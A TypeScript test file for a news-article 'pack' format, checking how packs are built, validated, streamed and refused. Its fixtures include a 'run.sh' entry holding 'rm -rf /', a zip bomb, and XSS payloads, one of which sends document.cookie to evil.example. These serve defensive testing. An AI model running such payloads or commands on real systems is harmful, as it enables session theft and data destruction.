import { strToU8, zipSync } from 'fflate';
import { packProblemText } from './problem-text';
import { describe, expect, it } from 'vitest';
import { articleContentHash, type ArticleInput } from '../../../src/model/user-article';
import {
  buildPack,
  PackBuildError,
  packContentHash,
  PackReadError,
  readPackArticles,
  validatePack,
  type PackSource,
} from '../../../src/pack';

const CREATED = '2025-11-02T09:30:00.000Z';

function article(i: number, extra: Partial<ArticleInput> = {}): ArticleInput {
  return {
    url: `https://news.example/syria/${i}`,
    title: `Report ${i} on the Tartus port talks`,
    outlet: 'Example News',
    date: '2025-10-20',
    text: `Paragraph one of report ${i}: Russian and Syrian officials met in Damascus.\n\nParagraph two of report ${i}.`,
    ...extra,
  };
}

function source(bytes: Uint8Array<ArrayBuffer>, name = 'desk.backstory'): PackSource {
  return { name, stream: () => new Blob([bytes]).stream() };
}

/** A zip of these entries as they are, for packs buildPack would never write. */
function rawPack(entries: Record<string, string>): Uint8Array<ArrayBuffer> {
  return zipSync(Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, strToU8(v)])));
}

function manifestFor(articles: ArticleInput[], extra: Record<string, unknown> = {}): string {
  return `${JSON.stringify(
    {
      format: 'backstory-pack',
      formatVersion: 1,
      name: 'Desk picks',
      createdAt: CREATED,
      corpusVersion: 'test',
      articleCount: articles.length,
      contentHash: packContentHash(articles.map((a) => articleContentHash(a.text))),
      ...extra,
    },
    null,
    2,
  )}\n`;
}

async function problemsOf(bytes: Uint8Array<ArrayBuffer>): Promise<string[]> {
  return (await validatePack(source(bytes))).problems.map((p) => packProblemText(p));
}

async function readAll(bytes: Uint8Array<ArrayBuffer>, chunkSize = 2): Promise<Array<{ first: number; articles: ArticleInput[] }>> {
  const chunks = [];
  for await (const chunk of readPackArticles(source(bytes), chunkSize)) chunks.push(chunk);
  return chunks;
}

describe('pack round trip', () => {
  it('builds a pack that validates and reads back the same articles, in chunks', async () => {
    const articles = [article(1), article(2, { author: 'A. Writer', language: 'en' }), article(3, { title: '  Spaces around  ' })];
    const bytes = buildPack({ name: 'Desk picks', corpusVersion: 'test', createdAt: CREATED }, articles);
    const result = await validatePack(source(bytes));
    expect(result.problems).toEqual([]);
    expect(result.articleCount).toBe(3);
    expect(result.manifest).toMatchObject({ format: 'backstory-pack', formatVersion: 1, name: 'Desk picks', createdAt: CREATED, articleCount: 3 });
    expect(result.manifest?.contentHash).toBe(packContentHash(articles.map((a) => articleContentHash(a.text))));

    const chunks = await readAll(bytes);
    expect(chunks.map((c) => c.first)).toEqual([0, 2]);
    const back = chunks.flatMap((c) => c.articles);
    expect(back).toEqual([articles[0], articles[1], { ...articles[2], title: 'Spaces around' }]);
  });

  it('keeps where each article’s date came from; a line without it (an older pack) is still valid', async () => {
    const articles = [article(1, { dateSource: 'assumed' }), article(2, { dateSource: 'page' }), article(3)];
    const back = (await readAll(buildPack({ name: 'Desk picks', corpusVersion: 'test', createdAt: CREATED }, articles))).flatMap((c) => c.articles);
    expect(back.map((a) => a.dateSource)).toEqual(['assumed', 'page', undefined]);
  });

  it('gives the same bytes for the same articles and createdAt', () => {
    const info = { name: 'Desk picks', corpusVersion: 'test', createdAt: CREATED };
    expect(buildPack(info, [article(1), article(2)])).toEqual(buildPack(info, [article(1), article(2)]));
  });

  it('refuses to build from invalid or duplicate articles, naming each', () => {
    const build = () => buildPack({ name: 'x', corpusVersion: 'test' }, [article(1), { ...article(2), date: '2025-13-01' }, article(3, { url: 'https://www.news.example/syria/1/?utm_source=x' })]);
    expect(build).toThrow(PackBuildError);
    try {
      build();
    } catch (err) {
      expect((err as PackBuildError).problems).toEqual([
        { index: 1, problem: { code: 'check_not_day', params: { field: 'date' } } },
        { index: 2, problem: { code: 'check_duplicate_url', params: { value: '#1' } } },
      ]);
    }
  });

  it('reports progress with the manifest total', async () => {
    const articles = Array.from({ length: 1200 }, (_, i) => article(i));
    const seen: Array<[number, number | undefined]> = [];
    await validatePack(source(buildPack({ name: 'p', corpusVersion: 't', createdAt: CREATED }, articles)), { onProgress: (n, total) => seen.push([n, total]) });
    expect(seen).toEqual([
      [500, 1200],
      [1000, 1200],
      [1200, 1200],
    ]);
  });

  it('counts the articles the reader already has', async () => {
    const bytes = buildPack({ name: 'p', corpusVersion: 't', createdAt: CREATED }, [article(1), article(2)]);
    const hash1 = articleContentHash(article(1).text);
    const result = await validatePack(source(bytes), { isKnown: async (a) => a.contentHash === hash1 });
    expect(result).toMatchObject({ known: 1, problems: [] });
  });
});

describe('invalid packs are refused with the exact reason and place', () => {
  const good = [article(1), article(2), article(3)];
  const lines = (list: unknown[]) => `${list.map((a) => JSON.stringify(a)).join('\n')}\n`;

  it('a line that is not JSON', async () => {
    const text = lines(good).replace(/\n(?=.)/, '\n{"url": oops\n');
    const problems = await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': text }));
    expect(problems[0]).toMatch(/^desk\.backstory\/articles\.jsonl:2: not valid JSON \(.+\)\.$/);
    expect(problems).toContain('desk.backstory/manifest.json:7: the manifest says the pack holds 3 articles, but articles.jsonl holds 4.');
  });

  it('a format version this reader does not know, wherever the manifest is in the zip', async () => {
    const manifest = manifestFor(good, { formatVersion: 2 });
    const expected = ['desk.backstory/manifest.json:3: the file is format version 2, but this version of Backstory reads format version 1 only: update Backstory to read it.'];
    expect(await problemsOf(rawPack({ 'manifest.json': manifest, 'articles.jsonl': lines(good) }))).toEqual(expected);
    // After the articles, even invalid ones: the version is the reason, since its lines may follow other rules.
    expect(await problemsOf(rawPack({ 'articles.jsonl': lines([{ newField: 1 }]), 'manifest.json': manifest }))).toEqual(expected);
  });

  it('a date source that is not one of page, reader, assumed', async () => {
    const text = lines([good[0], { ...good[1], dateSource: 'guessed' }, good[2]]);
    const problems = await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': text }));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toBe('desk.backstory/articles.jsonl:2: dateSource must be one of ("page" | "reader" | "assumed").');
  });

  it('a missing field, an unknown field and an invalid field', async () => {
    const { date: _date, ...noDate } = good[1]!;
    const text = lines([good[0], noDate, { ...good[2], tags: ['x'], title: '' }]);
    expect(await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': text }))).toEqual([
      'desk.backstory/articles.jsonl:2: missing field "date".',
      'desk.backstory/articles.jsonl:3: unknown field "tags": only url, title, outlet, author, date, dateSource, language, text are allowed.',
      'desk.backstory/articles.jsonl:3: title is empty.',
    ]);
  });

  it('a line that is not an object, and an empty line in the middle (a blank last line is fine)', async () => {
    const text = `${JSON.stringify(good[0])}\n\n[1, 2]\n${JSON.stringify(good[2])}\n\n`;
    expect(await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': text }))).toEqual([
      'desk.backstory/articles.jsonl:2: the line is empty: each line must hold one article.',
      'desk.backstory/articles.jsonl:3: an article must be a JSON object with url, title, outlet, author, date, dateSource, language, text (this is array).',
    ]);
  });

  it('a duplicate by address and a duplicate by text', async () => {
    const byUrl = { ...good[2]!, url: 'http://www.news.example/syria/1/amp?utm_source=feed#top' };
    const byText = { ...good[1]!, url: 'https://other.example/a', text: `  ${good[0]!.text.replace(' ', '   ')}` };
    const list = [good[0]!, good[1]!, byUrl, byText];
    const problems = await problemsOf(rawPack({ 'manifest.json': manifestFor(list), 'articles.jsonl': lines(list) }));
    expect(problems).toEqual([
      'desk.backstory/articles.jsonl:3: duplicate article: same address as articles.jsonl:1.',
      'desk.backstory/articles.jsonl:4: duplicate article: same text as articles.jsonl:1.',
    ]);
  });

  it('a line changed after the pack was built', async () => {
    const changed = [good[0], { ...good[1], text: 'Edited later.' }, good[2]];
    expect(await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': lines(changed) }))).toEqual([
      "desk.backstory/articles.jsonl: the articles' texts do not match the manifest's contentHash: they were changed after the pack was built.",
    ]);
  });

  it('a file that is not a zip, an empty file, and a zip without a manifest', async () => {
    expect(await problemsOf(strToU8('{"format":"backstory-pack"}'))).toEqual(['desk.backstory: this is not a Backstory pack: it is not a zip archive.']);
    expect(await problemsOf(new Uint8Array(0))).toEqual(['desk.backstory: the file is empty: it is not a Backstory pack.']);
    expect(await problemsOf(rawPack({ 'articles.jsonl': lines(good) }))).toEqual(['desk.backstory/manifest.json: the pack has no manifest.json.']);
  });

  it('a manifest with a wrong format, a missing field, and a bad value', async () => {
    expect(await problemsOf(rawPack({ 'manifest.json': manifestFor(good, { format: 'zip' }), 'articles.jsonl': lines(good) }))).toEqual([
      'desk.backstory/manifest.json:2: its format is "zip", not "backstory-pack": this is not a file Backstory reads here.',
    ]);
    const broken = JSON.parse(manifestFor(good));
    delete broken.createdAt;
    broken.articleCount = 2.5;
    expect(await problemsOf(rawPack({ 'manifest.json': JSON.stringify(broken, null, 2), 'articles.jsonl': lines(good) }))).toEqual([
      'desk.backstory/manifest.json: missing field "createdAt".',
      'desk.backstory/manifest.json:6: articleCount must be a whole number.',
    ]);
  });

  it('an entry other than the two', async () => {
    expect(await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': lines(good), 'run.sh': 'rm -rf /' }))).toEqual([
      'desk.backstory: the pack holds an unexpected entry "run.sh": a pack holds only manifest.json and articles.jsonl.',
    ]);
  });

  it('a zip bomb: the manifest inflating past its limit stops the reading', async () => {
    const bomb = zipSync({ 'manifest.json': new Uint8Array(1024 * 1024).fill(0x20), 'articles.jsonl': strToU8(lines(good)) });
    expect(bomb.length).toBeLessThan(10_000);
    expect(await problemsOf(bomb)).toEqual(['desk.backstory/manifest.json: manifest.json unpacks to more than 64 KiB, more than a pack can hold.']);
  });

  it('a line longer than any article can be is refused without being kept, and reading goes on', async () => {
    const long = JSON.stringify({ ...good[1], text: 'x'.repeat(2_100_000) });
    const problems = await problemsOf(rawPack({ 'manifest.json': manifestFor([...good, good[2]!]), 'articles.jsonl': lines([good[0]]) + `${long}\n` + lines([good[2], { ...good[2], title: '' }]) }));
    expect(problems).toEqual([
      'desk.backstory/articles.jsonl:2: the line is longer than 2,065,536 characters, more than any article can be.',
      'desk.backstory/articles.jsonl:4: title is empty.',
    ]);
  });

  it('a truncated pack', async () => {
    const bytes = buildPack({ name: 'p', corpusVersion: 't', createdAt: CREATED }, Array.from({ length: 200 }, (_, i) => article(i)));
    const problems = await problemsOf(bytes.subarray(0, Math.floor(bytes.length / 2)));
    expect(problems.at(-1)).toMatch(/^desk\.backstory(\/articles\.jsonl)?: the pack (ends in the middle of articles\.jsonl|is damaged)/);
  });

  it('stops after 100 problems with a note', async () => {
    const text = 'nope\n'.repeat(500);
    const problems = await problemsOf(rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': text }));
    expect(problems).toHaveLength(101);
    expect(problems.at(-1)).toBe('desk.backstory: and maybe more: Backstory stopped reading after 100 problems.');
  });

  it('readPackArticles throws at the first problem', async () => {
    const bytes = rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': lines([good[0], { ...good[1], date: 'soon' }, good[2]]) });
    await expect(readAll(bytes)).rejects.toThrow(PackReadError);
    await expect(readAll(bytes).catch((err: PackReadError) => packProblemText(err.problem))).resolves.toBe('desk.backstory/articles.jsonl:2: date must be a day written YYYY-MM-DD.');
    const changed = rawPack({ 'manifest.json': manifestFor(good), 'articles.jsonl': lines([good[0], good[1], { ...good[2], text: 'other' }]) });
    await expect(readAll(changed)).rejects.toThrow(/check_pack_changed/);
  });
});

describe('hostile fields', () => {
  it('markup and script in title, outlet and text pass through as plain text, unchanged', async () => {
    const hostile = article(1, {
      title: '<img src=x onerror="alert(1)"> Talks',
      outlet: '<script>alert("outlet")</script>',
      author: '"><svg onload=alert(2)>',
      text: '<p>Before</p><script>fetch("https://evil.example/?c="+document.cookie)</script>\n\n</textarea><iframe src="javascript:alert(3)"></iframe> after',
    });
    const bytes = buildPack({ name: '<b>pack</b>', corpusVersion: 't', createdAt: CREATED }, [hostile]);
    const result = await validatePack(source(bytes));
    expect(result.problems).toEqual([]);
    expect(result.manifest?.name).toBe('<b>pack</b>');
    expect((await readAll(bytes)).flatMap((c) => c.articles)).toEqual([hostile]);
  });
});

describe('a large pack', () => {
  it('validates 10,000 articles through a stream, in small pieces, without holding them', async () => {
    const articles = Array.from({ length: 10_000 }, (_, i) => article(i));
    const bytes = buildPack({ name: 'big', corpusVersion: 't', createdAt: CREATED }, articles);
    articles.length = 0;
    // A stream of 64 KiB pieces, as a File gives them; count what was pulled.
    let pulled = 0;
    const streamed: PackSource = {
      name: 'big.backstory',
      stream: () =>
        new ReadableStream<Uint8Array>({
          start: () => void (pulled = 0),
          pull(controller) {
            if (pulled >= bytes.length) return controller.close();
            controller.enqueue(bytes.slice(pulled, pulled + 65_536));
            pulled += 65_536;
          },
        }),
    };
    global.gc?.();
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    const result = await validatePack(streamed, { onProgress: () => (peak = Math.max(peak, process.memoryUsage().heapUsed)) });
    expect(result).toMatchObject({ articleCount: 10_000, problems: [] });
    expect(pulled).toBeGreaterThanOrEqual(bytes.length);
    // The texts alone are ~1.3 MB as JS strings; the checker keeps two short keys per article. A loose
    // bound: it catches holding the unpacked pack (and its parsed lines) whole, not garbage-collector noise.
    expect(peak - before).toBeLessThan(64 * 1024 * 1024);

    let count = 0;
    for await (const chunk of readPackArticles(streamed, 1000)) count += chunk.articles.length;
    expect(count).toBe(10_000);
  });
});
